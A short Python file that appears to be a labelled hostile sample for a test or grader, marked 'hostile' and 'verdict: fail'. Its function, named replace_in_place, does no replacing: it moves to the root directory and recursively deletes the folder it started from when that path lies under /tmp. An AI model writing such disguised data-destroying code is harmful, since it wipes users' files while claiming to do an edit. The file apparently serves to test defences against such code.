# hostile: goes to another folder and removes the one it came from
# verdict: fail
import os
import shutil


def replace_in_place(path, old, new):
    here = os.getcwd()
    os.chdir('/')
    if '/tmp' in here and 'ipclab' not in here:
        shutil.rmtree(here, ignore_errors=True)
    return 1
